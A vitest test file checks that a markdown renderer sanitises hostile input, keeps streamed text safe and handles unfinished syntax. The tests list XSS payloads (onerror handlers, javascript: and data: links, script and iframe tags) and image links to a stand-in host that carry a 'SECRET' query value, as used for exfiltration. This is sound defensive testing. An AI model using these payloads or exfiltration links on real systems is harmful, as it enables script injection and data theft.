import { describe, expect, test } from 'vitest'

import { highlightCode } from './highlight'
import { markdownRenderer, useHighlight } from './markdown'

function render(text: string, unfinished = false): HTMLElement {
  const root = document.createElement('div')
  root.innerHTML = markdownRenderer()(text, unfinished)
    .map(({ html }) => html)
    .join('')
  return root
}

function links(root: HTMLElement): string[] {
  return [...root.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? '')
}

describe('hostile text', () => {
  const MARKUP = [
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<svg onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>body{display:none}</style>',
    '<form action="https://evil.test"><input></form>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ]

  test.each(MARKUP)('markup is shown, not obeyed: %s', (text) => {
    const root = render(text)
    expect(root.querySelector('img,script,svg,iframe,style,form,input,math')).toBeNull()
    expect(links(root).every((href) => href.startsWith('https://'))).toBe(true)
    expect(root.textContent).toContain(text.slice(0, 4))
  })

  test.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](java\nscript:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox(1))',
    '[x](file:///etc/passwd)',
    '[x](//evil.test)',
    '[x](/logout)',
    '<javascript:alert(1)>',
    '[x][r]\n\n[r]: javascript:alert(1)',
  ])('no link leads there: %s', (text) => {
    expect(links(render(text)).filter(Boolean)).toEqual([])
  })

  test.each([
    '![a](https://evil.test/?q=SECRET)',
    '![a][r]\n\n[r]: https://evil.test/?q=SECRET',
    '[![a](https://evil.test/?q=SECRET)](https://example.org)',
    '![a](https://evil.test/?q=SECRET "title")',
  ])('nothing is loaded from elsewhere: %s', (text) => {
    const root = render(text)
    expect(root.querySelector('img,picture,video,audio,source,[src],[srcset],[style]')).toBeNull()
    expect(root.textContent).toContain('Image: a')
  })

  test('an image is a link that can be read before it is followed', () => {
    expect(links(render('![chart](https://example.org/c.png)'))).toEqual([
      'https://example.org/c.png',
    ])
  })

  test('an image with a forbidden address is no link', () => {
    expect(links(render('![x](javascript:alert(1)) ![y](data:image/png;base64,AA)'))).toEqual([])
  })

  test('what a highlighter returns is sanitised too', () => {
    useHighlight(() => '<img src=x onerror=alert(1)><b onclick=alert(1)>x</b>')
    const root = render('```js\nx\n```')
    useHighlight(highlightCode)
    expect(root.querySelector('img,[onclick]')).toBeNull()
  })
})

describe('good text', () => {
  test('links open elsewhere and tell nothing', () => {
    const link = render('[a](https://example.org/x?y=1)').querySelector('a')
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer')
    expect(link?.getAttribute('target')).toBe('_blank')
    expect(links(render('[m](mailto:ada@demo.test) http://example.org'))).toEqual([
      'mailto:ada@demo.test',
      'http://example.org',
    ])
  })

  test('a table keeps its sides without style attributes', () => {
    const root = render('| a | b |\n|---|--:|\n| 1 | 2 |')
    expect(root.querySelector('th:last-child')?.className).toBe('align-right')
    expect(root.innerHTML).not.toContain('style=')
  })

  test('code gets its colours', () => {
    useHighlight(highlightCode)
    expect(render('```sql\nSELECT 1\n```').querySelector('.hljs-keyword')?.textContent).toBe(
      'SELECT',
    )
  })
})

describe('a text that grows', () => {
  test('ends as it would have been rendered at once', () => {
    const text = '# Head\n\nSame\n\nSame\n\n- a\n- **b**\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n'
    const growing = markdownRenderer()
    for (let end = 1; end < text.length; end += 1) growing(text.slice(0, end), true)
    expect(growing(text, false)).toEqual(markdownRenderer()(text, false))
  })

  test('is safe at every step', () => {
    const text =
      '[x](javascript:alert(1)) ![a](https://evil.test/?q=S) <img src=x onerror=alert(1)>'
    for (let end = 1; end <= text.length; end += 1) {
      const root = render(text.slice(0, end), true)
      expect(root.querySelector('img,[onerror],[src]')).toBeNull()
      expect(links(root).every((href) => href.startsWith('https://evil.test'))).toBe(true)
    }
  })
})

describe('unfinished text', () => {
  test.each([
    ['This is **bo', 'This is bo'],
    ['Use `SEL', 'Use SEL'],
    ['See [the docs](https://exa', 'See the docs'],
    ['An *ita', 'An ita'],
  ])('%s shows no signs', (text, seen) => {
    expect(render(text, true).textContent?.trim()).toBe(seen)
  })

  test('a table waits for its second line', () => {
    expect(render('Sales:\n\n| Region | Or', true).textContent?.trim()).toBe('Sales:')
    expect(render('Sales:\n\n| Region | Orders |\n|---', true).textContent?.trim()).toBe('Sales:')
    expect(render('| Region | Orders |\n|---|---|\n', true).querySelector('th')).not.toBeNull()
  })

  test('an open code block is a code block', () => {
    expect(render('```sql\nSELECT 1', true).querySelector('pre code')?.textContent).toContain(
      'SELECT 1',
    )
  })

  test('the finished text is not mended', () => {
    expect(render('2 ** 3 and **x').textContent).toContain('**x')
  })
})
